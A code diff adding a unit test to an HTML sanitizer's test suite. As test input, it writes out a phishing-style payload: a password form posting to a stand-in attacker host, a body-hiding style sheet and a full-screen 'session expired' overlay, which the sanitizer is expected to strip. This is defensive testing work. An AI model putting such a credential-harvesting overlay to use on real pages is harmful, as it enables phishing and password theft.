@@ -48,6 +48,16 @@ describe('Preheader', () => {
   it('sanitises strings directly too', () => {
     expect(sanitizeHtml('<b onclick="x()">a</b><script>x()</script>')).toBe('<b>a</b>');
   });
+
+  it('drops style sheets, forms and positioned overlays, keeping their text and harmless styling', () => {
+    const out = sanitizeHtml(
+      '<style>body{display:none}</style><form action="https://evil.example"><input name="password"><button>Inloggen</button></form>' +
+        '<div style="position: fixed; inset: 0; z-index: 9999; background: white">Sessie verlopen</div><span style="color: red">Let op</span>',
+    );
+    expect(out).not.toMatch(/<style|<form|<input|<button|position|z-index/i);
+    expect(out).toContain('Sessie verlopen');
+    expect(out).toContain('<span style="color: red">Let op</span>');
+  });
 });
 
 describe('Banners', () => {
